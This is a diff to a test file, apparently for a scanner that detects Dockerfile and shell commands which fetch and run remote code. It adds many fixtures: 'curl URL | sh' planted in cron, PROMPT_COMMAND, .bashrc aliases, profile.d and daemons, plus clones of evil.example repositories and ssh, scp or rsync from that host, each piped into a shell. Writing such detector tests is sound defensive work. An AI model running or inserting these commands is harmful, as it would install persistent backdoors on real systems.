@@ -35,6 +35,11 @@ const running = {
   'a makefile that is piped in': `curl ${url} | sed 's/^/all:;@/' | make -f -`,
   'a file by dd': `curl ${url} | dd of=/t/x && sh /t/x`,
   'a file by tee': `curl ${url} | tee /t/x > /dev/null && . /t/x`,
+  'a coprocess that is written to': `coproc { sh; echo; }; curl ${url} >&"\${COPROC[1]}"; read -r x <&"\${COPROC[0]}"; echo "$x"`,
+  'an alias': `shopt -s expand_aliases; alias x='curl ${url} | sh'\nx`,
+  'before each prompt': `PROMPT_COMMAND='curl ${url} | sh' && eval "$PROMPT_COMMAND"`,
+  'a file for shells that begin': `echo 'curl ${url} | sh' >> /t/.bashrc && . /t/.bashrc`,
+  'a makefile under its usual name': `cd /t && curl -o Makefile ${url} && sed -i 's/^/all:;@/' Makefile && make`,
   'a coprocess': `coproc X { curl ${url} | sh; }; cat <&"\${X[0]}"`,
 };
 
@@ -63,6 +68,35 @@ const others: Readonly<Record<string, string>> = {
   'a file that ADD loads': `ADD ${url} /t/x\nRUN make -f /t/x`,
 };
 
+const clone = 'git clone --depth 1 https://evil.example/r.git';
+const hex = '0123456789abcdef0123456789abcdef01234567';
+
+/** Scripts that are run out of what is cloned, lines written for cron, shells of other machines. */
+const fetched: Readonly<Record<string, string>> = {
+  'a script of a clone, by its path': `RUN ${clone} && ./r/install.sh`,
+  'a script of a clone, by a shell': `RUN ${clone} /opt/x && bash -e /opt/x/sub/install`,
+  'a script of a clone that is entered': `RUN ${clone} && cd r && sudo ./install.sh`,
+  'a script of a clone into the folder': `RUN ${clone} . && sh install.sh`,
+  'a script of a clone, in another step': `RUN ${clone} /src/r\nWORKDIR /src/r\nRUN ./install.sh`,
+  'a script of a clone over SSH': `RUN git -c a=b clone git@evil.example:a/r && . r/env`,
+  'a program of a clone of a tag': `RUN git clone -b v1.2 https://evil.example/r && python3 r/get.py`,
+  'a script of a clone of which a branch is taken': `RUN ${clone} && cd r && git checkout v2 && ./install.sh`,
+  'a script of a clone, when the container starts': `RUN ${clone} /r\nENTRYPOINT ["/r/start.sh"]`,
+  'a line for cron': `RUN echo '* * * * * root curl ${url} | sh' > /etc/cron.d/x`,
+  'a line for cron that a here-document holds': `RUN cat <<EOF >> /etc/crontabs/root\n*/5 0-4 * * 1,2 curl ${url} | sh\nEOF`,
+  'a line for cron that is printed': `RUN (crontab -l; echo "@daily curl ${url} | sh") | crontab -`,
+  'a line for cron that is copied': `COPY <<EOF /etc/cron.d/x\n0 0 * * * root wget -qO- ${url} | bash\nEOF`,
+  'a script for those who log in': `RUN echo 'curl ${url} | sh' > /etc/profile.d/x`,
+  'a command before each prompt': `ENV PROMPT_COMMAND="curl ${url} | sh"`,
+  'a command before each prompt, in a file': `RUN echo "export PROMPT_COMMAND='curl ${url} | sh'" >> /root/.bashrc`,
+  'an alias in a file': `RUN echo "alias ls='curl ${url} | sh'" >> ~/.bashrc`,
+  'a daemon': `RUN curl -o /t/x ${url} && start-stop-daemon --start --exec /t/x`,
+  'a daemon that is a shell': `RUN start-stop-daemon -S -x /bin/sh -- -c 'curl ${url} | sh'`,
+  'a shell of another machine': `RUN ssh -o StrictHostKeyChecking=no u@evil.example cat x | sh`,
+  'a file of another machine': `RUN scp u@evil.example:x /t/y.sh && sh /t/y.sh`,
+  'a file of another machine, by rsync': `RUN rsync -e ssh evil.example:a/x.sh /t/ && bash /t/x.sh`,
+};
+
 const harmless: Readonly<Record<string, string>> = {
   'env that sets a variable': `RUN env -S 'A=1' true; curl ${url} | env -S 'jq .'`,
   'find that removes': `RUN curl -o /t/x ${url} && find /t -name x -exec rm {} +`,
@@ -82,6 +116,17 @@ const harmless: Readonly<Record<string, string>> = {
   'parallel that packs': `RUN curl ${url} | parallel gzip; parallel gzip ::: a b`,
   'watch that lists': `RUN watch -n 1 ls`,
   'a file that is checked': `RUN curl -o /t/x ${url} && echo "abc  /t/x" | sha256sum -c && find /t -name x -exec sh {} \\;`,
+  'a clone of one commit': `RUN ${clone} && cd r && git checkout ${hex} && ./install.sh`,
+  'a clone of one commit, by its folder': `RUN ${clone} /r && git -C /r reset --hard ${hex} && sh /r/install.sh`,
+  'a clone of a commit that an argument names': `ARG R_COMMIT\nRUN ${clone} && cd r && git checkout "$R_COMMIT" && ./install.sh`,
+  'a clone of a signed tag': `RUN ${clone} && cd r && git verify-tag v1 && ./install.sh`,
+  'a clone that is compiled': `RUN ${clone} && cd r && ./autogen.sh && ./configure --prefix=/usr && make && make install`,
+  'a clone that is compiled in other ways': `RUN ${clone} && cmake -S r -B b && cd r && ./build.sh && ./gradlew build && python3 setup.py install`,
+  'a clone, and a script of one’s own': `RUN ${clone} /opt/r\nCOPY x.sh /\nRUN /x.sh && cd / && ./y.sh`,
+  'a line for cron that loads nothing': `RUN echo '0 0 * * * root /usr/bin/run.sh' > /etc/cron.d/x`,
+  'an alias of a program': `RUN echo "alias ll='ls -l'" >> ~/.bashrc`,
+  'a daemon of a package': `RUN curl -o /t/x ${url} && start-stop-daemon --start --exec /usr/sbin/nginx`,
+  'a command on another machine': `RUN ssh u@host 'curl ${url} | sha256sum'; scp x u@host:y`,
   'a variable of that name for another program': `RUN curl -o /t/x ${url} && ENV=/t/x node app.js`,
 };
 
@@ -91,6 +136,10 @@ describe('what is loaded and run in other words', () => {
   });
 
   test.each(Object.entries(others))('is told: %s', async (_name, text) => {
+    expect(await findings(text)).not.toEqual([]);
+  });
+
+  test.each(Object.entries(fetched))('is told where it is cloned, timed or fetched: %s', async (_name, text) => {
     expect(await findings(text)).not.toEqual([]);
   });
 
